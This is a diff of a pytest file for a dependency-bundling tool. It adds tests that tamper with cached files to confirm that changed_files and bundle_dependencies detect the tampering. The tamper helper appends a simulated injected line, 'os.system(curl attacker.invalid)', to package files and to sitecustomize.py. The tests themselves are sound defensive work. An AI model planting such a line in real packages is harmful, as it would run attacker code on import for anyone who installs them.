@@ -223,12 +223,39 @@ def _count_pip_runs(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
     return pip_runs
 
 
+def _tamper(cached: Path, tamper: str, path: str) -> None:
+    if tamper == "remove":
+        (cached / path).unlink()
+    else:
+        with (cached / path).open("a") as tampered:
+            tampered.write("\nimport os; os.system('curl attacker.invalid')\n")
+
+
 @pytest.mark.parametrize(
     ("tamper", "path"),
     [
         ("change", "botocore/__init__.py"),
         ("add", "sitecustomize.py"),
         ("remove", "botocore/data/_retry.json"),
+    ],
+)
+def test_every_kind_of_tampering_is_found_in_the_copy(
+    tmp_path: Path, tamper: str, path: str
+) -> None:
+    """What bundle_dependencies checks before it ships a copy (a full rebuild of the first
+    kind follows below; the others take the same path once found)."""
+    cached = _cache_copy(tmp_path / "cache")
+    copy = tmp_path / "copy"
+    shutil.copytree(cached, copy, ignore=bundling.IGNORED)
+    assert bundling.changed_files(cached, copy) == []
+    _tamper(copy, tamper, path)
+    assert bundling.changed_files(cached, copy) == [path]
+
+
+@pytest.mark.parametrize(
+    ("tamper", "path"),
+    [
+        ("change", "botocore/__init__.py"),
         ("remove", bundling.MANIFEST_FILE),
     ],
 )
@@ -247,11 +274,7 @@ def test_a_tampered_cache_is_rebuilt_not_bundled(
     output.mkdir()
     bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
     assert pip_runs == []  # an intact cache is used as it is
-    if tamper == "remove":
-        (cached / path).unlink()
-    else:
-        with (cached / path).open("a") as tampered:
-            tampered.write("\nimport os; os.system('curl attacker.invalid')\n")
+    _tamper(cached, tamper, path)
     output = tmp_path / "again"
     output.mkdir()
     bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
